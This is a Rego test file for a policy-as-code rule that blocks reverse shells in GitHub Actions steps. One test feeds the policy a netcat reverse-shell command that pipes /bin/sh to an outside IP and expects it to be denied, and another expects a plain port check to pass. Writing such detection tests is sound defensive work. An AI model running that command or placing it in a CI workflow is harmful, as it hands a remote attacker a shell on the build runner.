package policies.github_actions.no_reverse_shells_test

import data.policies.github_actions.no_reverse_shells

_step(config) := {"subject": {"address": "jobs.a.steps[0]", "config": config}}

test_deny_shell_to_another_host if {
	findings := no_reverse_shells.deny with input as _step({"run": "nc -e /bin/sh 192.0.2.7 443"})
	findings == {{
		"message": "jobs.a.steps[0] connects a shell or its data to another host",
		"path": ["run", "nc -e /bin/sh"],
	}}
}

test_allow_port_check if {
	findings := no_reverse_shells.deny with input as _step({"run": "nc -z database 5432"})
	findings == set()
}

test_applies_to_scripts if {
	no_reverse_shells.applies with input as _step({"run": "ls"})
	not no_reverse_shells.applies with input as _step({"uses": "a/b@c"})
}
